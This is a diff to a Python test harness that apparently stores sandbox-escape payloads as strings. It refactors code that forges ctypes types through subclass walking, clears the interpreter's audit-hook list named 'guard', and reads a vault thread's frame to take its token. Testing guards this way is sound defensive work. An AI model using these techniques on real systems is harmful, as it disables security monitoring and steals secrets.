@@ -56,7 +56,7 @@ def _forge(VP, C, Array, pointer_to, Union):
 _CTYPES_FROM_SUBCLASSES = (
     _FORGE_WITH
     + """
-def _forge_from_subclasses():
+def _ctypes_types():
     found, seen, todo = {}, set(), [object]
     while todo:
         for sub in type.__subclasses__(todo.pop()):
@@ -65,6 +65,9 @@ def _forge_from_subclasses():
                 todo.append(sub)
                 if sub.__module__ == "_ctypes":
                     found[sub.__name__] = sub
+    return found
+def _forge_from_subclasses():
+    found = _ctypes_types()
     VP = type("VP", (found["_SimpleCData"],), {"_type_": "P"})
     C = type("C", (found["_SimpleCData"],), {"_type_": "c"})
     pointer_to = lambda cls: type("P", (found["_Pointer"],), {"_type_": cls})
@@ -75,17 +78,12 @@ def _forge_from_subclasses():
 # The guard's own list: the heap is scanned for a one-item list holding a function named
 # "guard" (the interpreter's audit-hook list), which is cleared; then the vault thread's frame
 # is read with sys._current_frames and its token written to its result fd.
-_CLEAR_HOOKS = """
+_CLEAR_HOOKS = (
+    _CTYPES_FROM_SUBCLASSES
+    + """
 def _clear_hooks_then_read_frames():
     import os, re, sys, types
-    found, seen, todo = {}, set(), [object]
-    while todo:
-        for sub in type.__subclasses__(todo.pop()):
-            if id(sub) not in seen:
-                seen.add(id(sub))
-                todo.append(sub)
-                if sub.__module__ == "_ctypes":
-                    found[sub.__name__] = sub
+    found = _ctypes_types()
     VP = type("VP", (found["_SimpleCData"],), {"_type_": "P"})
     PyObj = type("PyObj", (found["_SimpleCData"],), {"_type_": "O"})
     C = type("C", (found["_SimpleCData"],), {"_type_": "c"})
@@ -134,6 +132,7 @@ def _clear_hooks_then_read_frames():
                         frame = frame.f_back
     return True
 """
+)
 
 _DAEMON = '[sys.executable, "-c", "import time; time.sleep(60)  # @MARKER@"]'
 
